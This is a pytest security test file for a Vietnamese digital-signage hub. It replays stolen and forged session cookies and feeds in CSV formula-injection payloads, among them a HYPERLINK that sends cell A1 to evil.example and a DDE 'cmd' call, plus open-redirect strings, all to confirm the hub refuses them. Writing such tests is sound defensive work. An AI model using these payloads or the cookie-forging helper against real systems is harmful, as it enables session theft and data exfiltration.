"""Attacks on the officers' side of the hub (issue 13), each named after what the attacker does.

A real hub under uvicorn on loopback, on SQLite and PostgreSQL; officers from distinct loopback addresses
(127.0.0.x, a real source address per connection); `signage hub` run as its own process for the CLI.
"""

from __future__ import annotations

import base64
import concurrent.futures
import csv
import hashlib
import hmac
import io
import json
import logging
import os
import re
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import requests
import sqlalchemy as sa
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from requests.adapters import HTTPAdapter

from signage.district.hub import HubConfig, create_app
from signage.district.hub import schema as t
from signage.district.hub.app import hash_password
from signage.district.hub.store import HubStore
from tests.hubserver import START, minutes, play, report_envelope, screenshot_envelope, serve, write_hub_config

PASSWORD = "mật-khẩu-đủ-dài"
NEW_PASSWORD = "mật-khẩu-mới-cũng-dài"
COOKIE = "signage_hub"
SIGNAGE = [sys.executable, "-m", "signage"]
ENV = {**os.environ, "SDL_VIDEODRIVER": "dummy", "SDL_AUDIODRIVER": "dummy", "PYGAME_HIDE_SUPPORT_PROMPT": "1"}


class Clock:
    """The hub's "now", moved by the test."""

    def __init__(self, now: datetime) -> None:
        self.now = now

    def __call__(self) -> datetime:
        return self.now


class FromAddress(HTTPAdapter):
    """Connections from a given loopback address: another machine, as far as the hub can tell."""

    def __init__(self, address: str) -> None:
        self.address = address
        super().__init__()

    def init_poolmanager(self, *args: Any, **kwargs: Any) -> None:
        super().init_poolmanager(*args, source_address=(self.address, 0), **kwargs)


def browser(address: str = "127.0.0.1") -> requests.Session:
    session = requests.Session()
    session.mount("http://", FromAddress(address))
    return session


@dataclass
class Hub:
    url: str
    config: HubConfig
    clock: Clock
    store: HubStore
    keys: dict[str, Ed25519PrivateKey]

    def login(self, name: str = "an", password: str = PASSWORD, address: str = "127.0.0.1", **extra: Any) -> requests.Response:
        return browser(address).post(self.url + "/login", data={"username": name, "password": password}, timeout=30, **extra)

    def sign_in(self, name: str = "an", password: str = PASSWORD, address: str = "127.0.0.1") -> requests.Session:
        session = browser(address)
        answer = session.post(self.url + "/login", data={"username": name, "password": password}, timeout=30)
        assert answer.status_code == 200 and answer.url == self.url + "/", (answer.status_code, answer.text[:300])
        return session

    def signage(self, *args: str, password: str | None = None) -> subprocess.CompletedProcess[str]:
        """`signage hub --config … ARGS` as the district's administrator runs it."""
        command = [*SIGNAGE, "hub", "--config", str(self.config.path), *args]
        stdin = "" if password is None else password + "\n"
        return subprocess.run(command, input=stdin, text=True, capture_output=True, env=ENV, timeout=60, check=False)

    def post(self, raw: bytes, path: str = "/report") -> requests.Response:
        return requests.post(self.url + path, data=raw, timeout=10)


@contextmanager
def running_hub(folder: Path, database: str = "hub.db", **hub_keys: Any) -> Iterator[Hub]:
    from signage.district.hub.cli import proxy_settings

    keys = {"tan-quan": Ed25519PrivateKey.generate(), "tan-hung": Ed25519PrivateKey.generate()}
    config = HubConfig.load(write_hub_config(folder, keys, database=database, **hub_keys))
    clock = Clock(START + minutes(1))
    app = create_app(config, clock=clock)
    store = app.state.store
    store.set_user("an", hash_password(PASSWORD), START)
    with serve(app, **proxy_settings(config)) as url:
        yield Hub(url, config, clock, store, keys)


@pytest.fixture(params=["sqlite", "postgresql"])
def hub(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Hub]:
    database = "hub.db" if request.param == "sqlite" else request.getfixturevalue("postgres_url")
    with running_hub(tmp_path, database) as running:
        yield running


@pytest.fixture(params=["sqlite", "postgresql"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[HubStore]:
    from signage.district.hub.config import database_url

    raw = str(tmp_path / "hub.db") if request.param == "sqlite" else request.getfixturevalue("postgres_url")
    opened = HubStore.open(database_url(tmp_path / "hub.toml", raw), START.tzinfo)  # type: ignore[arg-type]
    try:
        yield opened
    finally:
        opened.close()


def signed_out(session: requests.Session, hub: Hub) -> bool:
    """The session no longer opens anything: pages send it to the login, the CSV answers 401."""
    page = session.get(hub.url + "/", allow_redirects=False, timeout=10)
    export = session.get(hub.url + "/export.csv", allow_redirects=False, timeout=10)
    return page.status_code == 303 and page.headers["location"].startswith("/login") and export.status_code == 401


# --- finding 5: sessions on the server --------------------------------------------------------------------


def test_cookie_copied_before_sign_out_is_refused_after_it(hub: Hub) -> None:
    officer = hub.sign_in()
    copied = officer.cookies.get(COOKIE)  # someone at the officer's desk, or a proxy's log, kept a copy
    out = officer.post(hub.url + "/logout", headers={"Origin": hub.url}, allow_redirects=False, timeout=10)
    assert out.status_code == 303 and out.headers["location"] == "/login"
    thief = requests.Session()
    thief.cookies.set(COOKIE, copied)
    assert signed_out(thief, hub)
    assert signed_out(officer, hub)


def test_cookie_of_an_officer_whose_password_was_changed_is_refused(hub: Hub) -> None:
    officer = hub.sign_in()
    laptop = hub.sign_in(address="127.0.0.2")  # signed in on a second machine too
    changed = hub.signage("--add-user", "an", password=NEW_PASSWORD)
    assert changed.returncode == 0, changed.stderr
    assert "đổi mật khẩu" in changed.stdout and "phiên" in changed.stdout, changed.stdout
    assert signed_out(officer, hub) and signed_out(laptop, hub)
    assert hub.login(password=PASSWORD).status_code == 401
    hub.sign_in(password=NEW_PASSWORD)


def test_cookie_of_a_removed_officer_is_refused(hub: Hub) -> None:
    officer = hub.sign_in()
    removed = hub.signage("--remove-user", "an")
    assert removed.returncode == 0, removed.stderr
    assert "đã xoá cán bộ an" in removed.stdout, removed.stdout
    assert signed_out(officer, hub)
    assert hub.login().status_code == 401
    again = hub.signage("--remove-user", "an")
    assert again.returncode == 1 and "không có cán bộ" in again.stderr, again.stderr
    with hub.store.engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(t.sessions)).scalar_one() == 0


def test_session_left_idle_or_kept_past_its_lifetime_is_refused(hub: Hub) -> None:
    from signage.district.hub.sessions import IDLE_S, LIFETIME_S

    start = hub.clock.now
    idle = hub.sign_in()
    hub.clock.now = start + minutes(IDLE_S / 60 - 1)
    assert idle.get(hub.url + "/", allow_redirects=False, timeout=10).status_code == 200
    hub.clock.now = start + minutes(2 * IDLE_S / 60 - 1) + minutes(1)  # idle again for a whole IDLE_S
    assert signed_out(idle, hub)

    hub.clock.now = start
    busy = hub.sign_in()
    while hub.clock.now < start + minutes(LIFETIME_S / 60 - 30):
        hub.clock.now += minutes(30)
        assert busy.get(hub.url + "/bulletins", allow_redirects=False, timeout=10).status_code == 200
    hub.clock.now = start + minutes(LIFETIME_S / 60 + 1)
    assert signed_out(busy, hub)  # in use all day, but a day is as long as a session lives


def test_cookie_holds_a_random_token_and_the_database_only_its_hash(hub: Hub) -> None:
    first, second = hub.sign_in(), hub.sign_in()
    tokens = [session.cookies.get(COOKIE) for session in (first, second)]
    assert all(re.fullmatch(r"[A-Za-z0-9_-]{43}", token or "") for token in tokens) and tokens[0] != tokens[1]
    with hub.store.engine.connect() as conn:
        rows = conn.execute(sa.select(t.sessions)).all()
    stored = {row.token_hash for row in rows}
    assert stored == {hashlib.sha256(token.encode()).hexdigest() for token in tokens if token}
    assert not any(token in str(tuple(row)) for row in rows for token in tokens if token)
    assert {row.officer for row in rows} == {"an"}


def test_cookie_through_a_trusted_tls_proxy_is_secure_and_plain_lan_http_still_works(tmp_path: Path) -> None:
    with running_hub(tmp_path, trusted_proxies=["127.0.0.1"]) as hub:
        via_proxy = hub.login(headers={"X-Forwarded-Proto": "https", "X-Forwarded-For": "198.51.100.7"}, allow_redirects=False)
        assert via_proxy.status_code == 303
        assert "secure" in via_proxy.headers["set-cookie"].lower()
        assert via_proxy.headers["strict-transport-security"].startswith("max-age=")
        plain = hub.login(allow_redirects=False)  # an officer on the office LAN, no TLS
        assert plain.status_code == 303 and "secure" not in plain.headers["set-cookie"].lower()
        assert "strict-transport-security" not in plain.headers
        # Anyone else claiming to be a TLS proxy is not believed.
        claimed = hub.login(address="127.0.0.9", headers={"X-Forwarded-Proto": "https"}, allow_redirects=False)
        assert "secure" not in claimed.headers["set-cookie"].lower()
        cookie = plain.headers["set-cookie"].lower()
        assert "httponly" in cookie and "samesite=lax" in cookie and "path=/" in cookie


def test_cookie_is_always_secure_when_the_hub_is_published_over_https(tmp_path: Path) -> None:
    with running_hub(tmp_path, public_url="https://hub.hon-quan.example/") as hub:
        answer = hub.login(allow_redirects=False)
        assert answer.status_code == 303 and "secure" in answer.headers["set-cookie"].lower()
        assert answer.headers["strict-transport-security"].startswith("max-age=")


# --- finding 6: the database and who may read it ---------------------------------------------------------------


def forged_starlette_cookie(secret: str, session: dict[str, Any]) -> str:
    """What Starlette's SessionMiddleware (itsdangerous TimestampSigner, HMAC-SHA1) would have accepted."""
    stamp = base64.urlsafe_b64encode(int(time.time()).to_bytes(4, "big")).rstrip(b"=")
    value = base64.b64encode(json.dumps(session).encode()) + b"." + stamp
    key = hashlib.sha1(b"itsdangerous.Signer" + b"signer" + secret.encode()).digest()
    return (value + b"." + base64.urlsafe_b64encode(hmac.new(key, value, hashlib.sha1).digest()).rstrip(b"=")).decode()


def test_local_user_cannot_read_a_new_hub_database(tmp_path: Path) -> None:
    with running_hub(tmp_path) as hub:
        assert hub.post(report_envelope(hub.keys["tan-quan"], "tan-quan", 1, plays=[play("hq-1", START)])).status_code == 200
        hub.sign_in()
        files = [tmp_path / name for name in ("hub.db", "hub.db-wal", "hub.db-shm")]
        assert all(path.exists() for path in files)
        assert {path.name: oct(stat.S_IMODE(path.stat().st_mode)) for path in files} == {path.name: "0o600" for path in files}


def test_hub_database_left_readable_by_others_is_tightened_with_a_log_line(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    url = f"sqlite:///{tmp_path / 'hub.db'}"
    HubStore.open(url, START.tzinfo).close()  # type: ignore[arg-type]
    for path in tmp_path.glob("hub.db*"):
        path.chmod(0o644)
    caplog.set_level(logging.WARNING)
    HubStore.open(url, START.tzinfo).close()  # type: ignore[arg-type]
    assert oct(stat.S_IMODE((tmp_path / "hub.db").stat().st_mode)) == "0o600"
    assert all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in tmp_path.glob("hub.db*"))
    assert any("hub.db" in record.getMessage() and "0600" in record.getMessage() for record in caplog.records)


def test_session_forged_with_a_secret_read_from_the_database_is_never_honoured(tmp_path: Path) -> None:
    # An older hub kept the key that signed every cookie in its database, readable by any local user.
    url = f"sqlite:///{tmp_path / 'hub.db'}"
    old = HubStore.open(url, START.tzinfo)  # type: ignore[arg-type]
    with old.engine.begin() as conn:
        conn.execute(sa.insert(t.settings), {"key": "session_secret", "value": "read-by-a-local-user"})
    old.close()
    with running_hub(tmp_path) as hub:
        for name in ("ghost", "an"):  # a name that never existed, and a real officer's
            forger = requests.Session()
            forger.cookies.set(COOKIE, forged_starlette_cookie("read-by-a-local-user", {"user": name}))
            assert signed_out(forger, hub), name
        with hub.store.engine.connect() as conn:
            assert conn.execute(sa.select(t.settings.c.key).where(t.settings.c.key == "session_secret")).first() is None
        # A session row for an officer who does not exist (or no longer does) opens nothing either.
        token = "g" * 43
        with hub.store.engine.begin() as conn:
            moment = hub.clock.now.timestamp()
            row = {"token_hash": hashlib.sha256(token.encode()).hexdigest(), "officer": "ghost", "created_at": moment, "last_seen": moment}
            conn.execute(sa.insert(t.sessions), row)
        ghost = requests.Session()
        ghost.cookies.set(COOKIE, token)
        assert signed_out(ghost, hub)


# --- finding 7: formulas in the CSV ---------------------------------------------------------------------------


def test_formula_in_a_bulletin_id_or_reason_is_exported_as_text(hub: Hub) -> None:
    hostile = {
        '=HYPERLINK("http://evil.example/?"&A1;"Bấm")': "emergency",
        "@SUM(1+1)*cmd|' /C calc'!A0": "=1+2",
        "+thong-bao": "-2+3",
        "-thong-bao": "@x",
    }
    plays = [play(bulletin, START, 20.5, False, reason=reason) for bulletin, reason in hostile.items()]
    assert hub.post(report_envelope(hub.keys["tan-quan"], "tan-quan", 1, plays=plays)).status_code == 200
    answer = hub.sign_in().get(hub.url + "/export.csv?from=2026-11-23&to=2026-11-23", timeout=10)
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))[1:]
    assert len(rows) == 4
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row
        assert row[0] == "tan-quan" and row[2] == "1" and row[4] == "20.5" and row[5] == "0" and row[7] == "1"  # numbers stay numbers

    def shown(text: str) -> str:
        return "'" + text if text[0] in "=+-@" else text

    assert {(row[1], row[6]) for row in rows} == {(shown(bulletin), shown(reason)) for bulletin, reason in hostile.items()}


# --- finding 13 (pages): numbers and dates in URLs ---------------------------------------------------------------


def test_unicode_digits_in_a_page_number_or_screenshot_name_answer_no_500(hub: Hub) -> None:
    assert hub.post(screenshot_envelope(hub.keys["tan-quan"], "tan-quan", 2), "/report/screenshot").status_code == 200
    officer = hub.sign_in()
    for page in ("²", "①", "٣", "𝟗", "1" * 400, "-1", "+2", " 2"):
        assert officer.get(hub.url + "/?page=" + page, timeout=10).status_code == 200, page  # the first page
    for name in ("².png", "①.thumb.png", "٢.png", "𝟐.png", "+2.png", " 2.png", "0x2.png"):
        assert officer.get(hub.url + "/screenshots/tan-quan/" + name, timeout=10).status_code == 404, name
    assert officer.get(hub.url + "/screenshots/tan-quan/2.png", timeout=10).status_code == 200


def test_export_of_a_far_past_or_future_period_is_refused_before_streaming(hub: Hub) -> None:
    officer = hub.sign_in()
    far = ["from=9999-12-01&to=9999-12-31", "from=1999-12-31&to=2000-01-02", "from=2100-12-31&to=2101-01-01"]
    far.append("from=0001-01-01&to=0001-01-02")
    for query in far:
        for path in ("/export.csv", "/bulletins", "/bulletins/hq-1"):
            answer = officer.get(f"{hub.url}{path}?{query}", timeout=10)
            assert answer.status_code == 400, (path, query, answer.status_code)
            assert answer.headers["content-type"].startswith("text/html") and "từ năm 2000 đến năm 2100" in answer.text, answer.text[:300]
    assert officer.get(hub.url + "/export.csv?from=2000-01-01&to=2000-12-31", timeout=10).status_code == 200


# --- finding 14: security headers on every answer ----------------------------------------------------------------


def test_every_answer_carries_security_headers_against_framing_and_sniffing(hub: Hub) -> None:
    assert hub.post(screenshot_envelope(hub.keys["tan-quan"], "tan-quan", 2), "/report/screenshot").status_code == 200
    officer = hub.sign_in()
    anonymous = requests.Session()
    answers = {
        "login page": anonymous.get(hub.url + "/login", timeout=10),
        "redirect": anonymous.get(hub.url + "/", allow_redirects=False, timeout=10),
        "static": anonymous.get(hub.url + "/static/hub.css", timeout=10),
        "healthz": anonymous.get(hub.url + "/healthz", timeout=10),
        "dashboard": officer.get(hub.url + "/", timeout=10),
        "missing board": officer.get(hub.url + "/boards/nowhere", timeout=10),
        "no route": anonymous.get(hub.url + "/nothing-here", timeout=10),
        "csv": officer.get(hub.url + "/export.csv", timeout=10),
        "png": officer.get(hub.url + "/screenshots/tan-quan/2.png", timeout=10),
        "report": hub.post(report_envelope(hub.keys["tan-quan"], "tan-quan", 1)),
        "refused report": hub.post(b"{not json"),
        "report GET": anonymous.get(hub.url + "/report", timeout=10),
    }
    for what, answer in answers.items():
        headers = answer.headers
        policy = headers.get("content-security-policy", "")
        assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy, (what, policy)
        assert "unsafe-inline" not in policy, what
        assert headers.get("x-frame-options") == "DENY", what
        assert headers.get("x-content-type-options") == "nosniff", what
        assert headers.get("referrer-policy") == "same-origin", what
        assert "strict-transport-security" not in headers, what  # plain HTTP: HSTS would mean nothing
    assert answers["png"].headers["content-type"] == "image/png" and answers["report"].json()["ok"] is True


def test_pages_need_no_inline_style_or_script_under_the_policy() -> None:
    templates = Path(__file__).resolve().parent.parent / "signage/district/hub/templates"
    for page in templates.glob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert not re.search(r"<script|<style|\sstyle=|\son[a-z]+=|javascript:", text, re.IGNORECASE), page.name


# --- finding 15: throttling that cannot lock the rightful officer out, nor be flushed -----------------------------


def test_wrong_passwords_from_a_stranger_do_not_lock_out_the_officer_at_a_known_address(hub: Hub) -> None:
    hub.sign_in(address="127.0.0.2")  # the officer's desk: signed in from there before
    for attempt in range(7):
        wrong = hub.login(password=f"đoán-{attempt}", address="127.0.0.66")
        assert wrong.status_code == (401 if attempt < 5 else 429), attempt
    assert hub.login(address="127.0.0.66").status_code == 429  # the stranger, even with the right password
    assert hub.login(address="127.0.0.3").status_code == 429  # the name is held for addresses it never used
    hub.sign_in(address="127.0.0.2")  # but not for the officer at their own desk
    hub.clock.now += minutes(15)
    hub.sign_in(address="127.0.0.3")


def test_a_burst_of_parallel_guesses_gets_no_more_than_five_tries(hub: Hub) -> None:
    def guess(n: int) -> int:
        return hub.login(password=f"đoán-{n}", address="127.0.0.77").status_code

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        answers = sorted(pool.map(guess, range(8)))
    # Every guess waits for a password check: none may pass the count while the others are being checked.
    assert answers.count(401) <= 5 and set(answers) <= {401, 429}, answers


def test_thousands_of_junk_failures_from_distinct_addresses_do_not_lift_a_lock(store: HubStore) -> None:
    from signage.district.hub.throttle import WINDOW_S, SignInGate, address_key, name_key

    gate, now = SignInGate(store), START.timestamp()
    for n in range(5):
        assert gate.enter("an", "203.0.113.9", now + n).wait_s == 0  # each a wrong password
    assert gate.enter("an", "203.0.113.9", now + 5).wait_s > 0
    assert gate.enter("an", "198.51.100.1", now + 5).wait_s > 0
    # What 5,000 junk sign-ins from as many addresses leave in the table (the old one emptied itself at 10,000 keys).
    junk = [key for n in range(5000) for key in (name_key(f"rác-{n}"), address_key(f"10.0.{n // 256}.{n % 256}"))]
    store.add_sign_in_failures(junk, now + 6)
    assert gate.enter("an", "203.0.113.9", now + 7).wait_s > 0
    assert gate.enter("an", "198.51.100.1", now + 7).wait_s > 0
    # Bounded by time instead: a quarter of an hour later the lock is over and the old rows are gone.
    later = gate.enter("an", "203.0.113.9", now + WINDOW_S + 7)
    assert later.wait_s == 0
    with store.engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(t.sign_in_failures)).scalar_one() <= 2


# --- finding 17: what is logged of a failed sign-in ------------------------------------------------------------


def test_password_typed_into_the_name_field_is_never_logged(hub: Hub, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO)
    typed = "Mùa-xuân-2026!"  # the officer's password, typed where the name goes
    assert [hub.login(name=typed, password="x").status_code for _ in range(6)] == [401] * 5 + [429]
    assert hub.login(name="an", password="sai", address="127.0.0.5").status_code == 401
    lines = "\n".join(record.getMessage() for record in caplog.records)
    assert typed not in lines and typed.casefold() not in lines and typed[:8] not in lines, lines
    assert re.search(r"unknown name #[0-9a-f]{6} \(14 characters\) from 127\.0\.0\.1", lines), lines
    assert "failed sign-in for officer 'an' from 127.0.0.5" in lines, lines


# --- what an officer reads is Vietnamese -----------------------------------------------------------------------


def test_refusals_an_officer_reads_are_in_vietnamese(hub: Hub) -> None:
    anonymous = browser()
    cross = anonymous.post(hub.url + "/login", data={"username": "an", "password": PASSWORD}, headers={"Origin": "http://evil.example"})
    assert cross.status_code == 403 and "từ chối" in cross.text and cross.headers["content-type"].startswith("text/html")
    big = anonymous.post(hub.url + "/login", data={"username": "an", "password": "x" * 20000}, timeout=10)
    assert big.status_code == 413 and "quá lớn" in big.text
    many = anonymous.post(hub.url + "/login", data="&".join(f"f{n}=1" for n in range(20)), timeout=10,
                          headers={"Content-Type": "application/x-www-form-urlencoded"})  # fmt: skip
    assert many.status_code == 400 and "biểu mẫu" in many.text.lower()
    assert "đăng nhập" in anonymous.get(hub.url + "/export.csv", timeout=10).text.lower()
    officer = hub.sign_in()
    dates = officer.get(hub.url + "/export.csv?from=yesterday", timeout=10)
    assert dates.status_code == 400 and "ngày" in dates.text and "YYYY" not in dates.text
    backwards = officer.get(hub.url + "/bulletins?from=2026-11-30&to=2026-11-01", timeout=10)
    assert backwards.status_code == 400 and "trước" in backwards.text
    long = officer.get(hub.url + "/export.csv?from=2020-01-01&to=2026-01-01", timeout=10)
    assert long.status_code == 400 and "ngày" in long.text
    board = officer.get(hub.url + "/export.csv?board=nowhere", timeout=10)
    assert board.status_code == 400 and "Không có bảng tin" in board.text
    assert "không tìm thấy" in officer.get(hub.url + "/screenshots/tan-quan/9.png", timeout=10).text.lower()
    out = officer.post(hub.url + "/logout", headers={"Origin": "http://evil.example"}, timeout=10)
    assert out.status_code == 403 and "từ chối" in out.text


# --- siblings ------------------------------------------------------------------------------------------------


def test_nul_or_control_characters_in_a_page_address_answer_404_not_500(hub: Hub) -> None:
    # PostgreSQL refuses a NUL in any text it is given: a bulletin or board id from the URL must not reach it.
    officer = hub.sign_in()
    for path in ("/bulletins/hq%00x", "/bulletins/%1b%5b2J", "/screenshots/tan%00quan/2.png", "/boards/tan%00quan"):
        answer = officer.get(hub.url + path, timeout=10)
        assert answer.status_code == 404, (path, answer.status_code)
    assert officer.get(hub.url + "/?q=%00", timeout=10).status_code == 200
    assert officer.get(hub.url + "/export.csv?board=%00", timeout=10).status_code == 400


def test_sign_in_with_a_next_that_browsers_read_as_another_site_lands_on_the_hub(hub: Hub) -> None:
    for target in ("/\t/evil.example/", "/\n/evil.example/", "/\\evil.example/", "//evil.example/", "/%5Cevil.example"):
        answer = browser().post(hub.url + "/login", data={"username": "an", "password": PASSWORD, "next": target}, allow_redirects=False)
        location = answer.headers["location"]
        assert answer.status_code == 303 and location.startswith("/") and not location.startswith(("//", "/\\")), (target, location)
        assert not re.search(r"[\x00-\x20\\]", location), (target, location)


def test_feed_server_sending_a_unicode_digit_content_length_gets_a_one_line_error(tmp_path: Path) -> None:
    """`signage verify` against a hostile server: Content-Length "²" passes str.isdigit() and made int() raise."""
    import socket
    import threading
    from datetime import UTC

    from signage.district.verify import verify_site
    from signage.errors import SignageError

    listener = socket.create_server(("127.0.0.1", 0))

    def answer_all() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection:
                connection.recv(65536)
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: \xb2\r\nConnection: close\r\n\r\n{}")

    threading.Thread(target=answer_all, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{listener.getsockname()[1]}/feed.json"
        with pytest.raises(SignageError):
            verify_site(url, ["ed25519:" + base64.b64encode(bytes(32)).decode()], now=datetime.now(UTC))
    finally:
        listener.close()
